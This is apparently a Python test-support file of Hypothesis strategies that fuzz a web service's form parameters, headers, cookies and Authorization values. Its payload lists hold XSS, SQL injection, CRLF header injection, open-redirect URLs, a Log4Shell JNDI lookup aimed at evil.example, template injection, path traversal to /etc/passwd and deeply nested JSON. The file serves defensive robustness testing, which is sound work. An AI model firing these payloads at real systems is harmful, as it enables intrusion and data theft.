"""What attackers send: hypothesis strategies of hostile values, parameters, headers and cookies."""

import base64
from collections.abc import Mapping
from urllib.parse import quote_from_bytes

from hypothesis import strategies as st

from tests.support.wire import MARKER

Pairs = list[tuple[str, bytes]]
FORM = b"application/x-www-form-urlencoded"

NASTY = [
    MARKER.encode(),
    b'"><script>x7q</script>' + MARKER.encode(),
    b"' OR 1=1 --",
    b'"',
    b"\\",
    b"\x00",
    b"a\x00b",
    b"\r\nSet-Cookie: x7q=1",
    b"\nLocation: https://evil.example/",
    b"\xff\xfe",
    b"\xc3\x28",
    b"\xed\xa0\x80",
    "é\u202e\u0000\U0001f600".encode(),
    "\u2028".encode(),
    b"%",
    b"%0d%0a",
    b"%zz",
    b"{{7*7}}",
    b"${jndi:ldap://evil.example/}",
    b"https://evil.example/",
    b"//evil.example/",
    b"/\\evil.example/",
    b"javascript:alert(1)",
    b"../../../../etc/passwd",
    b"0",
    b"-1",
    b"1e999",
    b"9" * 400,
    "١٢".encode(),
    b"none",
    b"null",
    b"[]",
    b"{}",
    b" ",
    b"",
    b"A" * 5000,
    b"a=b&c=d",
]
DEEP = [
    b"[" * 900 + b"]" * 900,
    b'{"id_token":{"acr":{"values":' + b"[" * 300 + b"]" * 300 + b"}}}",
    b'{"userinfo":{"name":{"values":' + b"[" * 450 + b"]" * 450 + b"}}}",
    b'{"userinfo":{"name":{"value":' + b'{"a":' * 180 + b"1" + b"}" * 180 + b"}}}",
    b'{"id_token":{"sub":{"value":"\\ud800"}}}',
    b'{"id_token":{"sub":{"value":"\\u0000<x7q>"}}}',
    b'{"id_token":{"acr":{"essential":true,"value":"<x7q>"}}}',
    b'{"id_token":{"acr":{"essential":true,"values":["\\ud800",1,null,[]]}}}',
    b'{"userinfo":{"\\ud800":null,"name":{"value":1e999}}}',
    b'{"id_token":[],"userinfo":{"name":true}}',
    b'{"id_token":{"acr":{"values":5}}}',
    b'{"userinfo":{"a":{"value":' + b"9" * 3900 + b"}}}",
    b'{"userinfo":' * 50 + b"1" + b"}" * 50,
]


def values() -> st.SearchStrategy[bytes]:
    """A hostile value."""
    return st.one_of(st.sampled_from(NASTY), st.sampled_from(NASTY + DEEP), st.binary(max_size=40), st.text(max_size=20).map(_encoded))


def _encoded(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


@st.composite
def mutated(draw: st.DrawFn, valid: Mapping[str, bytes], others: tuple[str, ...] = ()) -> Pairs:
    """The valid parameters with one to three things wrong."""
    pairs: Pairs = list(valid.items())
    names = st.sampled_from([*valid, *others, "x7q", "", MARKER, "a\r\nb", "é", '"'])
    for _ in range(draw(st.sampled_from([1, 1, 1, 2, 3]))):
        act = draw(st.sampled_from(["replace", "replace", "replace", "add", "drop", "repeat", "join"]))
        if act == "add" or not pairs:
            pairs.append((draw(names), draw(values())))
            continue
        index = draw(st.integers(0, len(pairs) - 1))
        name, value = pairs[index]
        if act == "replace":
            pairs[index] = (name, draw(values()))
        elif act == "drop":
            del pairs[index]
        elif act == "repeat":
            pairs.append((name, draw(st.one_of(st.just(value), values()))))
        else:
            pairs[index] = (name, value + draw(values()))
    return pairs


@st.composite
def encoded(draw: st.DrawFn, pairs: st.SearchStrategy[Pairs]) -> bytes:
    """Pairs as form data: mostly well encoded, sometimes not at all, sometimes with rubbish between."""
    style = draw(st.sampled_from(["good", "good", "good", "raw", "rubbish"]))
    found = draw(pairs)
    if style == "raw":
        return b"&".join(_encoded(name) + b"=" + value for name, value in found)
    text = "&".join(f"{quote_from_bytes(_encoded(name))}={quote_from_bytes(value)}" for name, value in found).encode()
    if style == "rubbish":
        text += draw(st.sampled_from([b"&%", b"&%zz=%ff%fe", b"&&&;=;", b"&=", b"=&=", b"&a", b"&" * 300, b"&%00=%0d%0a"]))
    return text


METHODS = st.sampled_from(["GET"] * 6 + ["POST"] * 30 + ["HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "X7Q", "get", ""])
TYPES = st.sampled_from(
    [
        *[FORM] * 30,
        FORM + b"; charset=utf-7",
        b"application/json",
        b"multipart/form-data; boundary=x7q",
        b"multipart/form-data",
        b"text/plain",
        MARKER.encode(),
        b"\xff",
        b"",
    ]
)


@st.composite
def odd_headers(draw: st.DrawFn) -> Pairs:
    """Headers that nobody needs, some of them lies."""
    names = ["Accept-Language", "Accept", "Origin", "Referer", "User-Agent", "X-Forwarded-For", "Forwarded", "X-Forwarded-Host", "Host"]
    names += ["Content-Length", "Transfer-Encoding", "If-None-Match", "Range", "X-HTTP-Method-Override", "Sec-Fetch-Mode", "Sec-Fetch-Dest"]
    sent = draw(st.lists(st.tuples(st.sampled_from(names), values()), max_size=2))
    # A server in front of us would have refused these.
    return [(name, value.replace(b"\r", b"").replace(b"\n", b"").replace(b"\x00", b"")) for name, value in sent]


@st.composite
def hostile_cookies(draw: st.DrawFn, good: bytes) -> bytes:
    """The browser's cookies, or a ruin of them."""
    style = draw(st.sampled_from(["good", "good", "none", "cut", "nasty", "many"]))
    if style == "cut":
        return good[: draw(st.integers(0, len(good)))]
    if style == "nasty":
        value = draw(values()).replace(b"\r", b"").replace(b"\n", b"").replace(b"\x00", b"")
        return b"__Host-vestibule-session=" + value + b"; __Host-vestibule-browser=" + value
    return {"good": good, "none": b"", "many": b"; ".join(b"a%d=b" % number for number in range(200))}[style]


@st.composite
def authorizations(draw: st.DrawFn, good: tuple[bytes, ...]) -> bytes:
    """Authorization headers: good ones, ruined ones, rubbish."""
    value = draw(values()).replace(b"\r", b"").replace(b"\n", b"")
    return draw(
        st.sampled_from(
            [
                *good,
                b"",
                b"Basic",
                b"Basic " + value,
                b"Basic " + base64.b64encode(value),
                b"Basic " + base64.b64encode(value + b":" + value),
                b"Bearer " + value,
                b"Bearer",
                b"Bearer a.b.c",
                b"DPoP x",
                value,
            ]
        )
    )
